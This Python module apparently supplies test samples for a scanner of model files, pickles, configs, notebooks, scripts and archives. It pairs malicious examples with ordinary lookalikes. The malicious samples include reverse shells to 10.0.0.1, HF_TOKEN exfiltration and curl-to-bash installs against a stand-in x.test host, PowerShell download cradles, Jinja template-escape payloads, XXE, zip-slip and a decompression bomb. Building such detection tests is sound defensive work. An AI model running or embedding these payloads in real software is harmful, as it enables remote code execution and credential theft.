"""Ways to harm, one sample each, that stand in no list; and what is ordinary and looks like them."""

from __future__ import annotations

import base64
import gzip
import json
import marshal
import pickle
import struct

import lz4.frame
import numpy as np

from support.pickled import EVIL, calls, text, zipped
from support.scan_samples.assembly import names
from support.scan_samples.containers import GOOD, nested, tarred, torch_zip, with_flags
from support.scan_samples.documents import HDF5, LAMBDA, dense, keras_zip, layer, model, skops
from support.scan_samples.graphs import external, field, node, onnx, saved_model
from support.scan_samples.headers import ESCAPES, gguf, objects, safetensors, tensor

EVIL_ONES: dict[str, bytes] = {}
"""Each is dangerous, whatever it is called."""
ODD_ONES: dict[str, bytes] = {}
"""Nobody here can tell what they do, so none is clean."""
ORDINARY: dict[str, tuple[str, bytes]] = {}
"""With the name under which it would be found."""

# pickles
EVIL_ONES["yolo"] = b"\x80\x04" + names("ultralytics", "YOLO") + text("evil.pt") + b"\x85R."
EVIL_ONES["st"] = (
    b"\x80\x04" + names("sentence_transformers", "SentenceTransformer") + text("evil/repo") + b"\x85R."
)
EVIL_ONES["hdfstore"] = b"\x80\x04" + names("pandas", "HDFStore") + text("/tmp/x") + b"\x85R."
EVIL_ONES["ufunc"] = (
    b"\x80\x04" + names("numpy.core", "_ufunc_reconstruct") + text("os") + text("system") + b"\x86R."
)
EVIL_ONES["rebuild"] = (
    b"\x80\x04"
    + names("torch._tensor", "_rebuild_from_type_v2")
    + b"("
    + names("ultralytics", "YOLO")
    + names("torch", "Tensor")
    + text("x.pt")
    + b"\x85}tR."
)
EVIL_ONES["gen"] = (
    b"\x80\x04"
    + names("numpy.random._pickle", "__generator_ctor")
    + text("x.pt")
    + names("ultralytics", "YOLO")
    + b"\x86R."
)
EVIL_ONES["load_zip"] = (
    b"\x80\x04"
    + names("torch.storage", "_load_from_bytes")
    + b"B"
    + struct.pack("<I", len(torch_zip(EVIL)))
    + torch_zip(EVIL)
    + b"\x85R."
)
EVIL_ONES["load_p0"] = (
    b"\x80\x04"
    + names("torch.storage", "_load_from_bytes")
    + b"C"
    + bytes((len(b"cposix\nsystem\n(S'true'\ntR."),))
    + b"cposix\nsystem\n(S'true'\ntR."
    + b"\x85R."
)
EVIL_ONES["getattr partial"] = (
    b"\x80\x04" + names("functools", "partial") + names("builtins", "getattr") + b"\x85R."
)
EVIL_ONES["unknown fn protoless"] = b"cmypkg.tools\nrun\n(S'x'\ntR."
# torchscript


def ts(code: bytes) -> dict[str, bytes]:
    return {
        "m/constants.pkl": pickle.dumps((), 2),
        "m/data.pkl": GOOD,
        "m/code/__torch__/m.py": code,
        "m/version": b"3",
    }


EVIL_ONES["ts from_file"] = zipped(
    ts(
        b'class M(Module):\n  __parameters__ = []\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    y = torch.from_file("/etc/passwd", False, 10)\n    return y\n'
    )
)
EVIL_ONES["ts save"] = zipped(
    ts(
        b'class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    torch.save(x, "/tmp/x")\n    return x\n'
    )
)
EVIL_ONES["ts py"] = zipped(ts(b"import os\nos.system('true')\n"))
ODD_ONES["ts ops"] = zipped(
    ts(
        b"class M(Module):\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    y = ops.evil.run(x)\n    return y\n"
    )
)
EVIL_ONES["ts debug pkl"] = zipped(
    {**ts(b"class M(Module):\n  pass\n"), "m/code/__torch__/m.py.debug_pkl": EVIL}
)
ORDINARY["ts ok"] = (
    "file",
    zipped(
        ts(
            b'class M(Module):\n  __parameters__ = ["w", ]\n  __buffers__ = []\n  w : Tensor\n  training : bool\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    w = self.w\n    y = torch.add(torch.matmul(x, w), CONSTANTS.c0, alpha=1)\n    z = ops.prim.NumToTensor(torch.size(y, 0))\n    return torch.relu(y)\n'
        )
    ),
)
# pt2
EVIL_ONES["pt2 pickle"] = zipped(
    {
        "m/archive_format": b"pt2",
        "m/models/model.json": b'{"graph_module": {}}',
        "m/data/weights/model_weights_config.json": b"{}",
        "m/data/sample_inputs/model.pt": EVIL,
    }
)
EVIL_ONES["pt2 old"] = zipped(
    {
        "serialized_exported_program.json": b"{}",
        "serialized_state_dict.pt": torch_zip(EVIL),
        "version": b"8.0",
    }
)
EVIL_ONES["pt2 so"] = zipped(
    {
        "m/archive_format": b"pt2",
        "m/data/aotinductor/model/model.so": b"\x7fELF" + bytes(60),
        "m/models/model.json": b"{}",
    }
)
ODD_ONES["pt2 custom"] = zipped(
    {
        "m/archive_format": b"pt2",
        "m/models/model.json": json.dumps(
            {"graph_module": {"graph": {"nodes": [{"target": "torch.ops.evil.run.default"}]}}}
        ).encode(),
    }
)
ORDINARY["pt2 ok"] = (
    "file",
    zipped(
        {
            "m/archive_format": b"pt2",
            "m/models/model.json": json.dumps(
                {"graph_module": {"graph": {"nodes": [{"target": "torch.ops.aten.add.Tensor"}]}}}
            ).encode(),
            "m/version": b"1",
            "m/byteorder": b"little",
        }
    ),
)
# yaml
EVIL_ONES["yaml py"] = b"a: !!python/object/apply:os.system ['true']\n"
EVIL_ONES["yaml tag"] = b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ['true']\n"
EVIL_ONES["yaml tag2"] = b"a: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n"
EVIL_ONES["hydra"] = b"model:\n  _target_: os.system\n  command: 'true'\n"
EVIL_ONES["hydra2"] = b"model:\n  _target_: builtins.exec\n  _args_: ['1']\n"
EVIL_ONES["hydra3"] = b"model:\n  _target_: subprocess.Popen\n"
EVIL_ONES["nemo"] = tarred(
    {
        "model_config.yaml": b"target: nemo.x\ncfg:\n  _target_: subprocess.run\n",
        "model_weights.ckpt": torch_zip(GOOD),
    }
)
EVIL_ONES["hydra json"] = b'{"model": {"_target_": "os.system", "command": "true"}}'
ORDINARY["hydra ok"] = (
    "config.yaml",
    b"model:\n  _target_: torch.nn.Linear\n  in_features: 3\noptimizer:\n  _target_: torch.optim.Adam\n  lr: 0.1\n",
)
ORDINARY["hydra ok2"] = (
    "file",
    b"model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n",
)
ORDINARY["card"] = (
    "README.md",
    b"---\nlicense: mit\ntags:\n- a\n---\n# Model\n\n```python\nimport os\nos.system('ls')\nfrom transformers import pipeline\npipe = pipeline('x', trust_remote_code=True)\nexec(open('x').read())\n```\n",
)
ORDINARY["readme curl"] = (
    "README.md",
    b"# Install\n\n```\ncurl -LsSf https://astral.sh/uv/install.sh | sh\n```\n",
)
# keras
esc = json.dumps(model(LAMBDA)).replace("class_name", r"class_na\u006de")
EVIL_ONES["h5 escaped"] = HDF5 + bytes(300) + esc.encode() + bytes(300)
EVIL_ONES["keras json escaped"] = esc.encode()
EVIL_ONES["keras v3 nested"] = keras_zip(
    model(layer("Bidirectional", {"layer": layer("TimeDistributed", {"layer": LAMBDA})}))
)
EVIL_ONES["keras tfsm"] = keras_zip(model(layer("TFSMLayer", {"filepath": "evil"})))
EVIL_ONES["keras reg"] = keras_zip(model({"module": "builtins", "class_name": "eval", "config": {}}))
EVIL_ONES["keras fn"] = keras_zip(
    model(
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {
                "activation": {
                    "module": "builtins",
                    "class_name": "function",
                    "config": "exec",
                    "registered_name": "function",
                }
            },
        }
    )
)
EVIL_ONES["keras h5 ext weights"] = zipped(
    {
        "config.json": json.dumps(model(dense())).encode(),
        "metadata.json": b"{}",
        "model.weights.h5": calls("os", "system"),
    }
)
EVIL_ONES["keras textvec"] = keras_zip(model(layer("TextVectorization", {"vocabulary": "../../etc/passwd"})))
EVIL_ONES["keras getfile"] = keras_zip(
    model({"module": "keras.utils", "class_name": "get_file", "config": {"origin": "http://x"}})
)
EVIL_ONES["keras ops numpy"] = keras_zip(
    model({"module": "keras.src.saving", "class_name": "load_model", "config": {}})
)
EVIL_ONES["keras assets pkl"] = zipped(
    {"config.json": json.dumps(model(dense())).encode(), "metadata.json": b"{}", "assets/x": EVIL}
)
EVIL_ONES["keras custom module"] = keras_zip(
    model({"module": "mypkg.layers", "class_name": "Evil", "config": {}})
)
ORDINARY["keras custom reg"] = (
    "file",
    keras_zip(
        model(
            {
                "module": None,
                "class_name": "MyLayer",
                "config": {"units": 1},
                "registered_name": "pkg>MyLayer",
            }
        )
    ),
)
# tf
for op in [
    "PyFunc",
    "PyFuncStateless",
    "EagerPyFunc",
    "ReadFile",
    "WriteFile",
    "MatchingFiles",
    "ReadVariableOp2",
    "LoadAndRemapMatrix",
    "TextLineReaderV2",
    "WriteAudioSummary",
    "DecodeRaw2",
    "ShellExecute",
    "ReaderReadV2",
    "FixedLengthRecordDatasetV2",
    "SnapshotDatasetV2",
    "SqlDataset",
    "InitializeTableFromTextFileV2",
    "WriteRawProtoSummary",
    "CloseSummaryWriter",
    "CreateSummaryFileWriter",
    "GcsConfigureCredentials",
    "BigQueryReader",
    "SendTPUEmbeddingGradients2",
    "XlaHostCompute",
    "TPUExecute",
    "IgniteDataset",
]:
    if op[-1] != "2" or op in (
        "TextLineReaderV2",
        "ReaderReadV2",
        "SnapshotDatasetV2",
        "FixedLengthRecordDatasetV2",
        "InitializeTableFromTextFileV2",
    ):
        if op in (
            "XlaHostCompute",
            "TPUExecute",
            "WriteRawProtoSummary",
            "WriteAudioSummary",
            "CloseSummaryWriter",
            "InitializeTableFromTextFileV2",
        ):
            continue
        EVIL_ONES["tf " + op] = saved_model("Placeholder", op, in_library=True)
ORDINARY["tf vocab"] = (
    "file",
    saved_model(
        "InitializeTableFromTextFileV2",
        "HashTableV2",
        "LookupTableFindV2",
        "StaticRegexReplace",
        "ParseExampleV2",
        "DecodeJpeg",
        "Assert",
        "StringFormat",
        "ReadVariableOp",
        "AssignVariableOp",
        "VarHandleOp",
        "ShardedFilename",
        "SaveV2",
        "RestoreV2",
        "MergeV2Checkpoints",
        "StringJoin",
        "Pack",
        "PartitionedCall",
        "StatefulPartitionedCall",
        "While",
        "If",
        "TensorListReserve",
    ),
)
# onnx
EVIL_ONES["onnx rel"] = onnx(node("Relu"), tensors=(external("../../x"),))
EVIL_ONES["onnx win"] = onnx(node("Relu"), tensors=(external("C:\\\\x"),))
EVIL_ONES["onnx url"] = onnx(node("Relu"), tensors=(external("file:///etc/passwd"),))
EVIL_ONES["onnx pyop"] = onnx(node("PythonOp", "com.microsoft"))
EVIL_ONES["onnx contrib"] = onnx(node("PyCustomOpDef", "ai.onnx.contrib"))
EVIL_ONES["onnx in function"] = onnx(
    node("Relu"), more=field(25, field(1, "f") + field(7, node("PyOp", "ai.onnx.contrib")) + field(10, "x"))
)
# notebooks etc


def nb(src: str) -> bytes:
    return json.dumps(
        {
            "cells": [{"cell_type": "code", "source": src, "outputs": [], "metadata": {}}],
            "nbformat": 4,
            "nbformat_minor": 5,
            "metadata": {},
        }
    ).encode()


EVIL_ONES["nb curl"] = nb("!curl http://x.test/a.sh | bash")
EVIL_ONES["nb magic"] = nb("%%bash\ncurl http://x.test/a.sh | bash\n")
EVIL_ONES["nb magic2"] = nb("%%sh\nwget -qO- http://x.test/a | sh\n")
EVIL_ONES["nb system"] = nb("get_ipython().system('curl http://x.test/a.sh | bash')")
EVIL_ONES["nb eval"] = nb("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n")
ORDINARY["nb ok"] = (
    "file",
    nb(
        "!pip install -q transformers\n!nvidia-smi\nimport torch, os\nos.environ['A']='1'\nfrom google.colab import drive\nmodel.eval()\n"
    ),
)
# code
EVIL_ONES["pyc"] = (
    struct.pack("<H", 3495)
    + b"\r\n"
    + bytes(12)
    + marshal.dumps(compile("import os\nos.system('true')", "x", "exec"))
)
EVIL_ONES["py obf"] = b"import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"
EVIL_ONES["py lambda obf"] = (
    b"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'xxxx'))\n"
)
EVIL_ONES["py marshal"] = b"import marshal\nexec(marshal.loads(b'x'))\n"
EVIL_ONES["py getattr"] = b"g=getattr(__builtins__,'ev'+'al')\ng('1')\n"
EVIL_ONES["py globals"] = b"globals()['__builtins__'].__dict__['exec']('1')\n"
EVIL_ONES["py ctypes"] = b"import ctypes\nctypes.CDLL('x.so').run()\n"
EVIL_ONES["py socket shell"] = (
    b"import socket,os,pty\ns=socket.socket();s.connect(('10.0.0.1',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('sh')\n"
)
EVIL_ONES["py exfil"] = (
    b"import os,urllib.request\nurllib.request.urlopen('http://x.test/?t='+os.environ['HF_TOKEN'])\n"
)
EVIL_ONES["py exfil2"] = (
    b"import requests\nt=open('/home/user/.cache/huggingface/token').read()\nrequests.get('http://x.test/'+t)\n"
)
EVIL_ONES["py down run"] = (
    b"import urllib.request,subprocess\nurllib.request.urlretrieve('http://x.test/a','/tmp/a')\nsubprocess.Popen(['/tmp/a'])\n"
)
EVIL_ONES["dataset script"] = (
    b"import datasets,os\nclass X(datasets.GeneratorBasedBuilder):\n    def _generate_examples(self):\n        os.system('true')\n        yield 0,{}\n"
)
EVIL_ONES["setup.py"] = (
    b"from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://x.test|sh')\nsetup(name='x',cmdclass={'install':I})\n"
)
EVIL_ONES["pth"] = b"import os; os.system('true')\n"
EVIL_ONES["pickle load url"] = (
    b"import pickle,requests\npickle.loads(requests.get('http://x.test/a').content)\n"
)
EVIL_ONES["torch load remote"] = b"import torch.hub\nexec(__import__('requests').get('http://x.test').text)\n"
EVIL_ONES["ps1"] = (
    b"powershell -nop -w hidden -enc AAAA\nIEX (New-Object Net.WebClient).DownloadString('http://x.test/a')\n"
)
EVIL_ONES["bat"] = (
    b"@echo off\r\npowershell -Command \"IEX(New-Object Net.WebClient).DownloadString('http://x.test/a')\"\r\n"
)
EVIL_ONES["sh rev"] = b"#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n"
EVIL_ONES["sh noshebang"] = b"set -e\ncurl -s http://x.test/a.sh | bash\n"
EVIL_ONES["package.json"] = json.dumps(
    {"name": "x", "scripts": {"postinstall": "curl http://x.test/a | sh"}}
).encode()
EVIL_ONES["gh workflow"] = (
    b"on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n    - run: curl http://x.test/a | bash\n"
)
EVIL_ONES["docker multi"] = b"FROM python:3.11 AS a\nRUN wget -O- http://x.test/i.sh \\\n  | sh\n"
EVIL_ONES["docker b64"] = b"FROM python:3.11\nRUN echo aGk= | base64 -d | bash\n"
EVIL_ONES["req url"] = b"torch\n--index" + b"-url http://evil.test/" + b"simple\n"
EVIL_ONES["req typo"] = b"numpy==1.0\ntransformer5==1\ntorchvison==0.1\n"
EVIL_ONES["req mal"] = b"torch==2.0\ncolourama==0.1\n"
EVIL_ONES["pyproject"] = (
    b"[build-system]\nrequires=['reqeusts']\nbuild-backend='x'\n[project]\nname='x'\ndependencies=['torch','reqeusts==2.0']\n"
)
ORDINARY["req ok"] = (
    "file",
    (
        b"--extra-"
        b"index-url https://download.pytorch.org/whl/cu121\ntorch==2.1\nflash-attn @ https://github.com/Dao-AILab/flash-attention/releases/download/x.whl\ngradio\nspaces\npillow>=9\ntransformers[torch]==4.40; python_version>'3.8'\ngit+https://github.com/huggingface/diffusers.git\n"
    ),
)
ORDINARY["docker ok"] = (
    "file",
    b'FROM nvidia/cuda:12.1.0-cudnn8-devel-ubuntu22.04\nRUN apt-get update && apt-get install -y git curl && rm -rf /var/lib/apt/lists/*\nRUN useradd -m -u 1000 user\nUSER user\nENV HOME=/home/user PATH=/home/user/.local/bin:$PATH\nWORKDIR $HOME/app\nRUN pip install --no-cache-dir -r requirements.txt\nCOPY --chown=user . $HOME/app\nEXPOSE 7860\nCMD ["uvicorn","main:app","--port","7860"]\n',
)
ORDINARY["app subprocess"] = (
    "file",
    b"import subprocess\nimport gradio as gr\nsubprocess.run('pip install flash-attn --no-build-isolation', env={'FLASH_ATTENTION_SKIP_CUDA_BUILD': 'TRUE'}, shell=True)\nfrom huggingface_hub import snapshot_download\ngr.Interface(lambda x: x, 'text', 'text').launch()\n",
)
ORDINARY["app ffmpeg"] = (
    "file",
    b"import os\nimport subprocess\nimport gradio as gr\n\ndef run(v):\n    subprocess.check_output(['ffmpeg','-i',v,'out.mp4'])\n    os.system(f'ffmpeg -i {v} x.mp3')\n    return 'out.mp4'\n",
)
ORDINARY["app hf api"] = (
    "file",
    b"import os, requests\nAPI=os.environ.get('HF_TOKEN')\nr = requests.post('https://api-inference.huggingface.co/models/x', headers={'Authorization': f'Bearer {API}'}, json={})\n",
)
# jinja locations
bad = ESCAPES["gguf_ssti_2.gguf"]
for k in ("chat_template", "tool_template", "default_prompt_template", "prompt"):
    EVIL_ONES["json " + k] = json.dumps({"processor": {"x": {k: bad}}}).encode()
EVIL_ONES["added tokens"] = json.dumps({"added_tokens": [{"content": bad}]}).encode()
EVIL_ONES["jinja import"] = b"{% from 'x' import y %}"
EVIL_ONES["jinja split"] = b"{{ ''['__cla'+'ss__'] }}"
EVIL_ONES["jinja join"] = b"{{ ''|attr(['__cl','ass__']|join) }}"
EVIL_ONES["jinja fmt"] = b"{{ '%s%s'|format('__cl','ass__') }}{{ x[y] }}"
EVIL_ONES["jinja map"] = b"{{ [x]|map(attribute='__class__')|list }}"
EVIL_ONES["jinja map2"] = b"{{ [x]|map('attr','__class__')|list }}"
EVIL_ONES["jinja sum"] = b"{{ [x]|sum(attribute='__init__.__globals__') }}"
EVIL_ONES["jinja ns"] = b"{{ namespace.__init__.__globals__ }}"
EVIL_ONES["jinja sel"] = b"{{ x|selectattr('__class__')|list }}"
EVIL_ONES["jinja rev"] = b"{{ x['__ssalc__'[::-1]] }}"
EVIL_ONES["jinja call"] = b"{% call self.__init__() %}{% endcall %}"
EVIL_ONES["jinja line"] = b"{{ x }}{%- set a = ().__class__ -%}"
EVIL_ONES["jinja hex"] = b'{{ x["\\x5f\\x5fclass\\x5f\\x5f"] }}'
EVIL_ONES["jinja uni"] = b'{{ x["\\u005f_class_\\u005f"] }}'
EVIL_ONES["jinja repl"] = b"{{ x['--class--'.replace('-','_')] }}"
# xml
EVIL_ONES["xml dtd"] = b"<?xml version='1.0'?>\n<!DOCTYPE foo SYSTEM 'http://x.test/a.dtd'>\n<PMML/>"
EVIL_ONES["xml param"] = b"<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://x.test/p'> %p;]><r/>"
EVIL_ONES["xml 16"] = "<?xml version='1.0' encoding='utf-16'?><!DOCTYPE x [<!ENTITY a 'b'>]><PMML/>".encode(
    "utf-16-be"
)
EVIL_ONES["xml xinclude"] = (
    b"<?xml version='1.0'?><PMML xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/></PMML>"
)
EVIL_ONES["xml far"] = (
    b"<?xml version='1.0'?><!-- " + b"x" * 5000 + b" --><!DOCTYPE x [<!ENTITY a 'b'>]><PMML/>"
)
ODD_ONES["svg script"] = b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
ORDINARY["pmml ok"] = (
    "file",
    b"<?xml version='1.0'?><PMML xmlns='http://www.dmg.org/PMML-4_4' version='4.4'><Header/></PMML>",
)
ORDINARY["svg ok"] = ("file", b"<svg xmlns='http://www.w3.org/2000/svg'><rect/></svg>")
# numpy
EVIL_ONES["npy struct obj"] = (
    b"\x93NUMPY\x01\x00"
    + struct.pack("<H", 70)
    + b"{'descr': [('a', '<i4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }".ljust(69)[:69]
    + b"\n"
    + EVIL
)
EVIL_ONES["npz extra"] = zipped({"a.npy": objects(pickle.dumps([None])), "evil.pkl": EVIL})
# skops
EVIL_ONES["skops op"] = skops("operator", "methodcaller")
EVIL_ONES["skops fn"] = json.dumps({}).encode() and zipped(
    {
        "schema.json": json.dumps(
            {
                "__class__": "dict",
                "__module__": "builtins",
                "__loader__": "DictNode",
                "content": {
                    "f": {
                        "__class__": "function",
                        "__module__": "builtins",
                        "__loader__": "FunctionNode",
                        "content": {"module_path": "os", "function": "system"},
                    }
                },
            }
        ).encode()
    }
)
EVIL_ONES["skops type"] = zipped(
    {
        "schema.json": json.dumps(
            {
                "__class__": "type",
                "__module__": "builtins",
                "__loader__": "TypeNode",
                "content": {"__class__": "Popen", "__module__": "subprocess"},
            }
        ).encode()
    }
)
EVIL_ONES["skops partial"] = skops(
    "functools",
    "partial",
    {
        "func": {
            "__class__": "function",
            "__module__": "builtins",
            "content": {"module_path": "builtins", "function": "eval"},
        }
    },
)
EVIL_ONES["skops op func"] = zipped(
    {
        "schema.json": json.dumps(
            {"__class__": "call", "__module__": "operator", "__loader__": "OperatorFuncNode", "attrs": {}}
        ).encode()
    }
)
# others
ODD_ONES["java ser"] = b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap" + bytes(100)
ODD_ONES["rds"] = gzip.compress(b"X\n\x00\x00\x00\x02\x00\x04\x02\x01\x00\x02\x03\x00" + bytes(60))
EVIL_ONES["lz4 nested"] = lz4.frame.compress(gzip.compress(torch_zip(EVIL)))
EVIL_ONES["eicar"] = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
EVIL_ONES["lnk"] = bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(100)
EVIL_ONES["macho"] = b"\xcf\xfa\xed\xfe" + bytes(100)
EVIL_ONES["wasm"] = b"\x00asm\x01\x00\x00\x00" + bytes(50)
EVIL_ONES["ape"] = b"MZqFpD='\n" + bytes(100)
EVIL_ONES["dex"] = b"dex\n035\x00" + bytes(100)
EVIL_ONES["zip class"] = zipped(
    {"META-INF/MANIFEST.MF": b"Main-Class: X\n", "X.class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(50)}
)
EVIL_ONES["zip enc"] = with_flags(torch_zip(EVIL), 1, local=False)
EVIL_ONES["gguf array tmpl"] = gguf(
    {"tokenizer.chat_templates": (9, struct.pack("<IQ", 8, 1) + struct.pack("<Q", len(bad)) + bad.encode())}
)
ODD_ONES["gguf long tmpl"] = gguf({"tokenizer.chat_template": "{# " + "x" * 300000 + " #}" + bad})
EVIL_ONES["gguf count"] = b"GGUF" + struct.pack("<IQQ", 3, 1 << 62, 0)
EVIL_ONES["gguf tensor out"] = gguf(
    {"a": 1}, tensors=struct.pack("<Q", 1) + b"w" + struct.pack("<IQIQ", 1, 1 << 40, 0, 0), count=1
)
EVIL_ONES["gguf v1"] = b"GGUF" + struct.pack("<III", 1, 0, 0)
EVIL_ONES["st meta nonstr"] = safetensors(
    '{"__metadata__":{"a":1},"b":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', bytes(4)
)
EVIL_ONES["st trailing pickle"] = safetensors(json.dumps({"a": tensor(0, 4)}), bytes(4) + EVIL)
EVIL_ONES["st zip poly"] = safetensors(json.dumps({"a": tensor(0, 4)}), bytes(4) + torch_zip(EVIL))
ORDINARY["ubj"] = (
    "file",
    b"{L\x00\x00\x00\x00\x00\x00\x00\x07learner{L\x00\x00\x00\x00\x00\x00\x00\x0aattributes{}}}",
)
ORDINARY["catboost"] = ("file", b"CBM1" + struct.pack("<I", 100) + bytes(200))
ORDINARY["lgb"] = (
    "model.txt",
    b"tree\nversion=v4\nnum_class=1\nfeature_names=a b\n\nTree=0\nnum_leaves=2\nleaf_value=0.1 0.2\n\nend of trees\n",
)
ORDINARY["msgpack"] = (
    "file",
    b"\x82\xa6params\x81\xa5dense\x81\xa6kernel\xc7\x20\x01" + bytes(32) + b"\xa4step\x01",
)
ORDINARY["coreml"] = ("file", field(1, 7) + field(2, field(1, field(1, "image"))))
ORDINARY["paddle"] = ("file", pickle.dumps({"w": np.zeros(4, "f4")}, 4))
EVIL_ONES["parquet py"] = (
    b"PAR1"
    b"ARROW:schema"
    + base64.b64encode(b"arrow.py_extension_type" + EVIL) * 3
    + struct.pack("<I", 100)
    + b"PAR1"
)
EVIL_ONES["arrow ext"] = b"ARROW1\x00\x00" + b"arrow.py_extension_type" + EVIL + b"ARROW1"
EVIL_ONES["arrow stream ext"] = (
    b"\xff\xff\xff\xff\x10\x01\x00\x00"
    + bytes(30)
    + b"ARROW:extension:name\x00arrow.py_extension_type"
    + EVIL
    + bytes(40)
)
EVIL_ONES["tar abs"] = tarred({"/etc/x": b"1"})
EVIL_ONES["tar hard"] = tarred({"x": b"1"}, {"a": "../../etc/passwd"})
EVIL_ONES["zip slip"] = zipped({"../../x": b"1"})
EVIL_ONES["zip abs"] = zipped({"C:\\x": b"1"})
EVIL_ONES["gz bomb"] = gzip.compress(bytes(200 << 20))
ODD_ONES["nested bomb"] = zipped({f"{i}.zip": zipped({"a": bytes(40 << 20)}, 8) for i in range(30)}, 8)
ODD_ONES["deep nest"] = nested(12, EVIL)
